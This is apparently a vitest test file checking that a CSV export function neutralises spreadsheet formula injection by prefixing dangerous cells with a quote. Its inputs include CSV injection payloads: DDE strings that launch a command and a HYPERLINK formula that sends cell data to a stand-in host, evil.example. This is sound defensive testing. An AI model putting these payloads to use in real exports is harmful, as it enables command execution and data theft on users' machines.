import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from './api';

describe('toCsv (batch scoring download)', () => {
  it("prefixes cells a spreadsheet would run as formulas with a single quote, and quotes them", () => {
    const text = toCsv(
      ['id', '=cmd|"/c calc"!A0', 'note'],
      [
        [1, 'x', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
        [2, 'x', '+1+cmd|"/c calc"!A0'],
        [3, 'x', '-2+3+cmd|"/c calc"!A0'],
        [4, 'x', '@SUM(1+1)*cmd|"/c calc"!A0'],
        [5, 'x', '\t=1+1'],
        [6, 'x', '\r=1+1'],
        [7, 'x', 'plain, with a comma'],
      ],
    );
    const lines = text.split('\n');
    expect(lines[0]).toBe(`id,"'=cmd|""/c calc""!A0",note`);
    expect(lines[1]).toBe(`1,x,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(lines[2]).toBe(`2,x,"'+1+cmd|""/c calc""!A0"`);
    expect(lines[3]).toBe(`3,x,"'-2+3+cmd|""/c calc""!A0"`);
    expect(lines[4]).toBe(`4,x,"'@SUM(1+1)*cmd|""/c calc""!A0"`);
    // Every cell read back starts with the quote or is harmless.
    const cells = Papa.parse<string[]>(text.trim(), { newline: '\n' }).data.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain('plain, with a comma');
  });

  it('keeps plain numbers readable, negative ones included, as numbers or as number text', () => {
    const text = toCsv(['x', 'label', 'prediction'], [[-5, '-5', -0.25], [1e-7, '+3', 2], [-1.5e-7, '-0.5', null]]);
    expect(text).toBe('x,label,prediction\n-5,-5,-0.25\n1e-7,+3,2\n-1.5e-7,-0.5,\n');
  });
});
